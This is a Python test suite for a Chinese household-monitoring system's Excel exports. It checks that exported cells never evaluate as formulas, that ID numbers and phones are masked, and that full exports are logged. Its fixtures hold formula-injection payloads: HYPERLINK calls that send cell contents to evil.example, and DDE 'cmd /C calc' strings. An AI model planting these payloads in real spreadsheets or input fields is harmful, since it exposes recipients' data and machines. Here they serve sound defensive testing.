"""Exports are safe to open (issue 16, hole 2) and tidy (issue 15): no text cell of any export is a
formula, numbers stay numbers; header rows are frozen, filtered and sized; downloads carry a
Chinese dated name with an ASCII fallback; import templates offer drop-down lists."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from assistance.selectors.dashboard import Table
from assistance.services.dashboard_xlsx import dashboard_table_xlsx
from assistance.services.exports import assistance_export
from fanpin.core.terms import term
from monitoring.models import Household, Lead, Member, Region
from monitoring.selectors.leads import PublicityRow
from monitoring.services.exports import households_export
from monitoring.services.exports_leads import leads_export, publicity_xlsx, targets_export
from monitoring.services.imports.spec import SPECS
from monitoring.services.imports.workbooks import annotated_copy_write, enumerated_values, import_template_write
from tests.assistance.factories import TargetMeasureFactory, target_for
from tests.conftest import World
from tests.factories import IncomeFactory, LeadFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "address": "+cmd|' /C calc'!A0",
    "reason": '=HYPERLINK("http://evil.example","详见附件")',
    "village": "@SUM(1+1)*cmd|' /C calc'!A0",
    "township": "-2+3+cmd|' /C calc'!A0",
    "unit": "\t=1+1",
    "notes": "\r=1+1",
    "measure": "=1+1",
    "phone": "+8613812345678",
}


def formula_cells(data: bytes | str | Path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate (or read as the start of one)."""
    source: Any = io.BytesIO(data) if isinstance(data, bytes) else data
    wb = load_workbook(source)  # not read-only: data_type is what the file says
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)):
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return bad


def all_values(data: bytes | str | Path) -> list[Any]:
    source: Any = io.BytesIO(data) if isinstance(data, bytes) else data
    wb = load_workbook(source)
    return [cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


@pytest.fixture
def hostile(world: World) -> Household:
    """Free text of one household, its village and township, its lead, target and measure all
    start with a formula character (as an imported sheet or a typed reason can)."""
    hh = world.households["520101001001"]
    Region.objects.filter(code="520101001001").update(name=HOSTILE["village"])
    Region.objects.filter(code="520101001000").update(name=HOSTILE["township"])
    Member.objects.filter(household=hh, relation="HEAD").update(name=HOSTILE["name"])
    Household.objects.filter(pk=hh.pk).update(address=HOSTILE["address"], phone=HOSTILE["phone"])
    IncomeFactory(household=hh, year=2024, family_size=2, wage_income=Decimal("10000.50"))
    LeadFactory(
        household=hh,
        state="REJECTED",
        decided_at=timezone.now(),
        rejection_reason=HOSTILE["reason"],
    )
    tm = TargetMeasureFactory(
        target=target_for(hh),
        responsible_name=HOSTILE["name"],
        responsible_unit=HOSTILE["unit"],
        responsible_phone=HOSTILE["phone"],
        progress_notes=HOSTILE["notes"],
        amount=Decimal("1500.00"),
        amount_kind="SUBSIDY",
    )
    type(tm.measure).objects.filter(pk=tm.measure_id).update(name=HOSTILE["measure"])
    hh.refresh_from_db()
    return hh


def test_no_export_writes_a_formula_and_numbers_stay_numbers(world: World, hostile: Household) -> None:
    county = world.users["county"]
    outputs: dict[str, io.BytesIO] = {}
    for kind, export in {
        "households": lambda out: households_export(user=county, out=out, year=2024),
        "households_full": lambda out: households_export(
            user=county, out=out, year=2024, full_ids=True, purpose="核对"
        ),
        "leads": lambda out: leads_export(user=county, output=out),
        "targets": lambda out: targets_export(user=county, output=out),
        "assistance": lambda out: assistance_export(user=county, output=out),
        "publicity": lambda out: publicity_xlsx(
            user=county,
            village_code="520101001001",
            rows=[PublicityRow(HOSTILE["name"], HOSTILE["village"], "边缘易致贫户", HOSTILE["reason"], None, None)],
            output=out,
        ),
    }.items():
        out = io.BytesIO()
        assert export(out) >= 1, kind
        outputs[kind] = out
        assert formula_cells(out.getvalue()) == [], kind
        values = all_values(out.getvalue())
        # the text is all there, written as text: the apostrophe is the only change
        assert any(isinstance(v, str) and v.startswith("'") and v[1:] in HOSTILE.values() for v in values), kind

    households = list(load_workbook(io.BytesIO(outputs["households"].getvalue())).active.iter_rows(values_only=True))
    header, row = households[0], next(r for r in households[1:] if r[0] == hostile.household_no)
    values = dict(zip(header, row, strict=True))
    assert values["户主姓名"] == "'" + HOSTILE["name"]
    assert values["住址"] == "'" + HOSTILE["address"]
    assert values["村"] == "'" + HOSTILE["village"] and values["乡镇"] == "'" + HOSTILE["township"]
    assert values["工资性收入"] == 10000.5 and values["家庭人口数"] == 2 and values["收入年度"] == 2024
    assert isinstance(values["人均可支配收入"], float) and isinstance(values["家庭成员数"], int)
    full = list(load_workbook(io.BytesIO(outputs["households_full"].getvalue())).active.iter_rows(values_only=True))
    full_row = dict(zip(full[0], next(r for r in full[1:] if r[0] == hostile.household_no), strict=True))
    assert full_row["联系电话"] == "'" + HOSTILE["phone"]  # the full phone, as text

    leads = list(load_workbook(io.BytesIO(outputs["leads"].getvalue())).active.iter_rows(values_only=True))
    lead = dict(zip(leads[0], leads[1], strict=True))
    assert lead["未纳入原因"] == "'" + HOSTILE["reason"] and lead["户主姓名"] == "'" + HOSTILE["name"]
    assert isinstance(lead["发现日期"], dt.datetime)  # a date cell, not text

    measures = list(load_workbook(io.BytesIO(outputs["assistance"].getvalue())).active.iter_rows(values_only=True))
    measure = dict(zip(measures[0], measures[1], strict=True))
    assert (measure["帮扶措施"], measure["责任人单位"], measure["进展情况"]) == (
        "'" + HOSTILE["measure"],
        "'" + HOSTILE["unit"],
        "'" + HOSTILE["notes"].replace("\r", "\n"),  # XML reads a CR back as LF
    )
    assert measure["金额（元）"] == 1500


def test_the_command_and_a_job_write_no_formula(world: World, hostile: Household, tmp_path: Path) -> None:
    for kind in ("households", "leads", "targets", "assistance"):
        output = tmp_path / f"{kind}.xlsx"
        call_command("export_xlsx", "--kind", kind, "--user", "county", "--output", str(output), stdout=io.StringIO())
        assert formula_cells(output) == [], kind


def test_dashboard_and_annotated_copy_write_no_formula(world: World, tmp_path: Path) -> None:
    table = Table(
        "regions",
        "各县监测对象",
        ["县", "农户（户）", "人均收入（元）"],
        rows=[[HOSTILE["village"], 12, Decimal("8123.45")], ["=1+1", None, Decimal("-3.5")]],
        note="-说明",
    )
    content = dashboard_table_xlsx(table=table, region_name=HOSTILE["township"], year=2025)
    assert formula_cells(content) == []
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[2] == ("'" + HOSTILE["village"], 12, 8123.45) and rows[3] == ("'=1+1", "—", -3.5)

    # the annotated copy of a rejected upload repeats the uploaded text: as text
    upload = tmp_path / "members.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(SPECS["members"].headers)
    ws.append(["H520101001001", '=HYPERLINK("http://evil")', "bad", "户主", "健康", "", "普通劳动力", "", "", "是"])
    ws["B2"].data_type = "s"  # a text cell that reads like a formula
    wb.save(upload)
    out = io.BytesIO()
    errors = [{"row": 2, "column": "身份证号", "message": "=身份证号无效"}]
    annotated_copy_write(kind="members", source=str(upload), errors=errors, out=out)
    assert formula_cells(out.getvalue()) == []
    assert '\'=HYPERLINK("http://evil")' in all_values(out.getvalue())


SOFFICE = shutil.which("soffice")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) 未安装")
def test_libreoffice_computes_nothing_in_an_export(world: World, hostile: Household, tmp_path: Path) -> None:
    """LibreOffice opens the lead export and saves it as CSV: the reason is the text, not a result."""
    assert SOFFICE is not None
    source = tmp_path / "leads.xlsx"
    Lead.objects.filter(household=hostile).update(rejection_reason="=1+1")
    leads_export(user=world.users["county"], output=str(source))
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path / "csv"),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (tmp_path / "csv" / "leads.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and ",2\n" not in text and ",2," not in text
    assert "HYPERLINK" not in text or "'=HYPERLINK" in text


# --- 身份证号 and phones in household exports (issue 15, defect 3) ------------------------------


def client_for(u: Any) -> Client:
    client = Client()
    client.force_login(u)
    return client


def household_rows(content: bytes) -> dict[str, dict[str, Any]]:
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    return {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}


def download(response: Any) -> bytes:
    from django.core.signals import request_finished
    from django.db import close_old_connections

    data = b"".join(response.streaming_content)
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    return data


def test_household_exports_mask_ids_and_phones_by_default(world: World, tmp_path: Path) -> None:
    hh = world.households["520101001001"]
    head = hh.members.get(relation="HEAD")
    page = client_for(world.users["county"]).get(reverse("monitoring:household_export"))
    row = household_rows(download(page))[hh.household_no]
    assert row["户主身份证号"] == f"{head.id_number[:6]}********{head.id_number[-4:]}"
    assert row["联系电话"] == f"{hh.phone[:3]}****{hh.phone[-4:]}"
    output = tmp_path / "hh.xlsx"
    call_command("export_xlsx", "--kind", "households", "--output", str(output), stdout=io.StringIO())
    with output.open("rb") as fh:
        command_row = household_rows(fh.read())[hh.household_no]
    assert (command_row["户主身份证号"], command_row["联系电话"]) == (row["户主身份证号"], row["联系电话"])


def test_a_crafted_query_string_gets_no_full_numbers(world: World) -> None:
    hh = world.households["520101001001"]
    head = hh.members.get(relation="HEAD")
    client = client_for(world.users["county"])
    crafted = client.get(reverse("monitoring:household_export"), {"full_ids": "1", "purpose": "x"})
    content = download(crafted)
    assert head.id_number not in str(all_values(content)) and hh.phone not in str(all_values(content))


def test_a_role_without_the_right_cannot_export_full_numbers(world: World, monkeypatch: Any) -> None:
    """A role that may export but not see full numbers (none today: city staff given EXPORT_DATA)."""
    from fanpin.core import roles
    from fanpin.core.models import AccessLog

    monkeypatch.setitem(
        roles.ROLE_PERMISSIONS,
        roles.Role.CITY,
        roles.ROLE_PERMISSIONS[roles.Role.CITY] | {roles.Permission.EXPORT_DATA},
    )
    hh = world.households["520101001001"]
    head = hh.members.get(relation="HEAD")
    client = client_for(world.users["city"])
    page = client.get(reverse("monitoring:household_list")).content.decode()
    assert 'data-testid="household-export"' in page and "household-export-full" not in page
    url = reverse("monitoring:household_export")
    assert client.post(url, {"full_ids": "1", "purpose": "核对低保名单"}).status_code == 403
    masked = download(client.get(url, {"full_ids": "1", "purpose": "核对低保名单"}))
    assert head.id_number not in str(all_values(masked))
    assert not AccessLog.objects.filter(what__contains="完整身份证号").exists()
    with pytest.raises(Exception, match="不能导出完整身份证号"):
        households_export(user=world.users["city"], out=io.BytesIO(), full_ids=True, purpose="核对")


def test_a_full_export_needs_a_purpose_and_writes_it_to_the_access_log(world: World) -> None:
    from fanpin.core.models import AccessLog

    hh = world.households["520101001001"]
    head = hh.members.get(relation="HEAD")
    county = world.users["county"]
    client = client_for(county)
    page = client.get(reverse("monitoring:household_list"), {"village": "520101001001"}).content.decode()
    assert 'data-testid="household-export-full"' in page and 'name="purpose"' in page and "required" in page
    url = reverse("monitoring:household_export") + "?village=520101001001"
    refused = client.post(url, {"purpose": "  "})
    assert refused.status_code == 302 and refused["Location"].endswith("?village=520101001001")
    assert "导出完整身份证号和联系电话须填写用途" in client.get(refused["Location"]).content.decode()
    assert not AccessLog.objects.exists()

    response = client.post(url, {"purpose": "与民政局核对低保名单"})
    rows = household_rows(download(response))
    assert set(rows) == {"H520101001001"}  # the list's filters hold
    assert (rows[hh.household_no]["户主身份证号"], rows[hh.household_no]["联系电话"]) == (head.id_number, hh.phone)
    log = AccessLog.objects.get()
    assert (log.actor, log.action, log.row_count) == (county, AccessLog.Action.EXPORT, 1)
    assert "完整身份证号" in log.what and "用途：与民政局核对低保名单" in log.what


def test_a_full_export_as_a_job_and_from_the_command(world: World, settings: Any, tmp_path: Path) -> None:
    from django.core.management import CommandError

    from fanpin.core.models import AccessLog
    from monitoring.models import ExportJob
    from monitoring.services.export_jobs import export_job_run

    settings.EXPORT_DIRECT_MAX_ROWS = 0
    hh = world.households["520101001001"]
    head = hh.members.get(relation="HEAD")
    client = client_for(world.users["county"])
    client.post(reverse("monitoring:household_export"), {"purpose": "入户核查"})
    job = export_job_run(job_id=ExportJob.objects.get().pk)
    rows = household_rows(download(client.get(reverse("monitoring:export_download", args=[job.pk]))))
    assert rows[hh.household_no]["户主身份证号"] == head.id_number
    assert AccessLog.objects.filter(what__contains="用途：入户核查", actor=world.users["county"]).count() == 1

    output = tmp_path / "full.xlsx"
    with pytest.raises(CommandError, match="须填写用途"):
        call_command("export_xlsx", "--kind", "households", "--full-ids", "--output", str(output))
    call_command(
        "export_xlsx", "--kind", "households", "--full-ids", "--purpose", "年度复核", "--output", str(output),
        stdout=io.StringIO(),
    )  # fmt: skip
    with output.open("rb") as fh:
        assert household_rows(fh.read())[hh.household_no]["户主身份证号"] == head.id_number
    assert AccessLog.objects.filter(what__contains="用途：年度复核").exists()


# --- polish (issue 15 minor items) -------------------------------------------------------------


def test_list_exports_have_widths_frozen_filtered_headers(world: World, hostile: Household) -> None:
    county = world.users["county"]
    for export, title in [
        (lambda out: leads_export(user=county, output=out), "预警线索"),
        (lambda out: targets_export(user=county, output=out), term("target")),
        (lambda out: households_export(user=county, out=out), "农户"),
        (lambda out: assistance_export(user=county, output=out), "帮扶措施"),
    ]:
        out = io.BytesIO()
        count = export(out)
        ws = load_workbook(io.BytesIO(out.getvalue())).active
        assert ws.title == title
        assert ws.freeze_panes == "A2", title
        last = ws.max_column
        assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=last).column_letter}{count + 1}", title
        widths = [ws.column_dimensions[ws.cell(row=1, column=c).column_letter].width for c in range(1, last + 1)]
        assert all(w and w >= 6 for w in widths), (title, widths)
        assert all(ws.cell(row=1, column=c).font.b for c in range(1, last + 1))
    leads = load_workbook(io.BytesIO(_leads_bytes(county))).active
    headers = [c.value for c in leads[1]]
    reason = headers.index("未纳入原因")
    assert leads.column_dimensions[leads.cell(row=1, column=reason + 1).column_letter].width == 40


def _leads_bytes(user: Any) -> bytes:
    out = io.BytesIO()
    leads_export(user=user, output=out)
    return out.getvalue()


def disposition(response: Any) -> str:
    return str(response["Content-Disposition"])


def test_downloads_have_chinese_dated_names_with_an_ascii_fallback(world: World) -> None:
    today = f"{timezone.localdate():%Y-%m-%d}"
    LeadFactory(household=world.households["520101001001"])
    county = client_for(world.users["county"])
    for url, chinese, ascii_name in [
        (reverse("monitoring:leads_export"), f"预警线索-{today}.xlsx", f"leads-{today}.xlsx"),
        (reverse("monitoring:targets_export"), f"{term('target')}-{today}.xlsx", f"targets-{today}.xlsx"),
        (reverse("monitoring:household_export"), f"农户信息-{today}.xlsx", f"households-{today}.xlsx"),
        (reverse("monitoring:import_template", args=["members"]), "家庭成员导入模板.xlsx", "template-members.xlsx"),
    ]:
        response = county.get(url)
        assert response.status_code == 200, url
        assert disposition(response) == (
            f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''{quote(chinese, safe='')}"
        ), url
        if response.streaming:
            download(response)
    province = client_for(world.users["province"])
    response = province.get("/dashboard/regions.xlsx", {"region": "520000000000", "year": "2025"})
    assert response.status_code == 200
    assert f'filename="dashboard-regions-2025-{today}.xlsx"' in disposition(response)
    assert quote("-2025年-", safe="") in disposition(response) and disposition(response).endswith(
        quote(f"-{today}.xlsx", safe="")
    )
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws.title != "regions" and any("\u4e00" <= ch <= "\u9fff" for ch in ws.title)
    assert ws.freeze_panes == "A3" and ws.auto_filter.ref.startswith("A2:")


def test_export_job_download_name(world: World, settings: Any) -> None:
    from monitoring.models import ExportJob
    from monitoring.services.export_jobs import export_job_run

    settings.EXPORT_DIRECT_MAX_ROWS = 0
    LeadFactory(household=world.households["520101001001"])
    client = client_for(world.users["county"])
    client.get(reverse("monitoring:leads_export"), {"state": "ALL"})
    job = export_job_run(job_id=ExportJob.objects.get().pk)
    response = client.get(reverse("monitoring:export_download", args=[job.pk]))
    stamp = f"{timezone.localtime(job.finished_at):%Y-%m-%d}"
    assert disposition(response) == (
        f"attachment; filename=\"leads-{stamp}.xlsx\"; filename*=UTF-8''{quote(f'预警线索-{stamp}.xlsx', safe='')}"
    )
    download(response)


@pytest.mark.parametrize("kind", list(SPECS))
def test_import_templates_offer_a_list_for_every_enumerated_column(kind: str) -> None:
    out = io.BytesIO()
    import_template_write(kind=kind, out=out)
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    header = [c.value for c in ws[2]]
    validations = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    expected = 0
    for index, column in enumerate(SPECS[kind].columns, start=1):
        values = enumerated_values(column)
        if values is None:
            continue
        expected += 1
        letter = ws.cell(row=2, column=index).column_letter
        assert header[index - 1] == column.header
        dv = validations[f"{letter}3:{letter}20000"]
        assert dv.type == "list" and dv.showErrorMessage
        assert dv.formula1 == '"' + ",".join(values) + '"'
        assert bool(dv.allow_blank) == (column.allow_empty or not column.required)
    assert len(validations) == expected


def test_member_template_lists_are_the_spec_values() -> None:
    lists = {c.header: enumerated_values(c) for c in SPECS["members"].columns if enumerated_values(c)}
    assert lists == {
        "与户主关系": ["户主", "配偶", "之子", "之女", "之儿媳", "之女婿", "之孙子", "之孙女", "之父", "之母", "之兄弟姐妹", "其他"],
        "健康状况": ["健康", "长期慢性病", "患有大病", "残疾"],
        "残疾等级": ["一级", "二级", "三级", "四级"],
        "劳动能力": ["普通劳动力", "技能劳动力", "弱劳动力或半劳动力", "丧失劳动力", "无劳动力"],
        "在校情况": ["学龄前", "小学", "初中", "高中", "中职", "高职高专", "本科及以上", "辍学"],
        "务工情况": ["县内务工", "省内县外务工", "省外务工", "公益岗位", "未务工"],
        "是否参加医保": ["是", "否"],
        "成员状态": ["正常", "死亡", "注销"],  # from 2026: 死亡/注销 become changes the county reviews
    }  # fmt: skip
    households = {c.header: enumerated_values(c) for c in SPECS["households"].columns if enumerated_values(c)}
    assert households == {"户类型": ["脱贫户", "边缘户", "一般农户"]}
